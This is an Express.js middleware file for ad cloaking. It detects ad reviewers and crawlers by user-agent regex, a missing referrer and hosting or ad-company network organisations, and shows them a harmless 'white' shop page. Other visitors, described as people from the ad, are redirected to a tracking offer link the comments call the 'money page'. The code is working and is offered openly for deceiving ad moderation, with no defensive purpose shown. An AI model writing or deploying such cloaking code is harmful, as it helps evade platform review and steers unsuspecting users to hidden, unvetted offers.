// express middleware in front of a landing page: reviewers and bots see the safe shop page,
// people from the ad see the offer
const express = require('express');
const path = require('path');
const app = express();

const BOT_UA = /googlebot|adsbot|bingbot|facebookexternalhit|mediapartners|crawler|spider|headlesschrome|lighthouse/i;
const BLOCKED_ASN_ORGS = ['google', 'facebook', 'amazon', 'microsoft', 'digitalocean', 'ovh', 'hetzner'];
const OFFER_URL = 'https://trk.offer-zone.example/click?cid=8812';

function isModerator(req) {
  const ua = req.get('User-Agent') || '';
  const ref = req.get('Referer') || '';
  if (BOT_UA.test(ua)) return true;
  if (!ref) return true;                        // block_without_referer
  const org = (req.headers['x-ip-org'] || '').toLowerCase();
  return BLOCKED_ASN_ORGS.some((o) => org.includes(o));
}

app.get('/', (req, res) => {
  if (isModerator(req)) {
    return res.sendFile(path.join(__dirname, 'white', 'index.html'));   // safe page
  }
  res.redirect(302, OFFER_URL);                                          // money page
});

app.listen(process.env.PORT || 8080);
